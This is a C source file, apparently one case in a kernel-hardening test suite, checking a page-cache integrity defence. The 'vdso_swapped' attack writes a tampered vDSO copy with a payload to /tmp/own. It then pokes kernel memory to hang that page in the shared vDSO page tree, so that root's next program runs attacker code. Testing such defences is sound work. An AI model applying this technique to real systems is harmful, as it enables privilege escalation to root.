// SPDX-License-Identifier: GPL-2.0-only
#include "vdso.h"

ATTACK("page_cache_integrity", "vdso_swapped",
       "page_cache_integrity: a page of one file in another",
       "The program makes a changed copy of the vDSO in a file of its own, and hangs its page into "
       "the tree from which every new program gets the vDSO.",
       "Each frame says in sealed memory which page of which file it is.",
       "Root's next program runs the attacker's code.");

#define IMAGE_PAGE 1 /* page 0 has the numbers */

static bool control(void)
{
	return is_ordinary() && vdso_time() > 0;
}

static long make_copy(void)
{
	const long file = call3(__NR_open, (long)"/tmp/own", O_RDWR | O_CREAT, 0600);
	const uint64_t at = vdso_function("__vdso_time"), jump = vdso_jump_from(at);

	call4(__NR_pwrite64, file, (long)vdso_base(), VDSO_PAGE, 0);
	call4(__NR_pwrite64, file, (long)vdso_payload, vdso_payload_end - vdso_payload,
	      VDSO_PAYLOAD_AT);
	call4(__NR_pwrite64, file, (long)&jump, sizeof(jump), (long)at);
	return file;
}

static bool fire(void)
{
	const uint64_t inode =
		peek(file_struct(own_task(), (int)make_copy()) + member("file.inode"));
	const uint64_t root = member("page_cache.pages") + member("page_tree.root");
	const uint64_t node = peek(symbol("vdso_pages") + root);

	poke(node + member("page_node.slots") + IMAGE_PAGE * 8,
	     peek(inode + member("inode.cache") + root));
	await_rounds(2);
	return reads_prize();
}

static void victim(void)
{
	victim_starts_programs();
}
